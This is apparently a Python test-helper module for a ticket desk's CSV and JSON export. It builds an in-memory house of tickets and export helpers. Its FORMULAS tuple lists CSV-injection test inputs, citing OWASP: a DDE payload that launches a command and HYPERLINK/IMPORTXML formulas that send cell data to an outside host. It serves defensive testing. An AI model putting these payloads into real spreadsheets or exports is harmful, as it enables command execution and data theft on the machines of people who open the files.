"""A desk over a store in memory with the house of the builders, and exports of it."""

import csv
import io
import json
from pathlib import Path
from typing import Any

from cxloop_tui.domain.operation import Json
from cxloop_tui.services.desk import Desk
from cxloop_tui.services.export import Asked, Format, Written, plan, write, write_file
from cxloop_tui.services.queries import Queries
from tests.builders import ADA, BEA, CREATED, FakeClock, found_house, seeded_ids
from tests.fakes import MemoryStore

FORMULAS = (
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", '"=1', "＝1",
    '=HYPERLINK("http://e/?"&A1)', '=IMPORTXML("http://e/","//a")', "a,b", 'a"b', "a\nb", ";=1", "-5",
)  # fmt: skip
"""What a spreadsheet could take for a formula, or for more than one cell (reference: OWASP, CSV injection)."""


class House:
    """A store with people and segments."""

    def __init__(self) -> None:
        self.store = MemoryStore()
        self.clock = FakeClock(step=1)
        self.desk = Desk(self.store, self.clock, seeded_ids())
        self.desk.sit(ADA, found_house)

    def queries(self, me: str = ADA) -> Queries:
        return Queries(self.store, self.clock, me, lambda: 0)

    def create(self, words: str = "Late refund", **fields: Json) -> str:
        """Make a ticket; its id. By an import, so that anything may be missing."""
        wanted = {**CREATED, **fields}
        return self.desk.sit(ADA, lambda sitting: sitting.create(wanted, words)).ticket.id

    def exported(
        self, asked: Asked, query: str = "sort:number", me: str = ADA, ids: list[str] | None = None, **how: Any
    ) -> tuple[bytes, Written]:
        """Export to a stream."""
        queries = self.queries(me)
        stream = io.BytesIO()
        written = write(queries, plan(queries, queries.parse(query), asked, ids), stream, **how)
        return stream.getvalue(), written

    def table(self, asked: Asked, query: str = "sort:number", me: str = ADA) -> list[dict[str, str]]:
        """Export to CSV and read it back."""
        octets, _ = self.exported(asked, query, me)
        return list(csv.DictReader(io.StringIO(octets.decode(), newline="")))

    def numbers(self, query: str = "sort:number", me: str = ADA, ids: list[str] | None = None) -> list[int]:
        """Return the numbers of what is exported, and of nothing else."""
        octets, written = self.exported(Asked(Format.JSON, ("number",)), query, me, ids)
        found = [record["number"] for record in json.loads(octets)]
        assert written.tickets == len(found)
        return found

    def file(self, path: Path, form: Format, query: str = "sort:number", **how: Any) -> Written:
        """Export to a file."""
        queries = self.queries()
        return write_file(queries, plan(queries, queries.parse(query), Asked(form)), path, **how)


__all__ = ["ADA", "BEA", "FORMULAS", "House"]
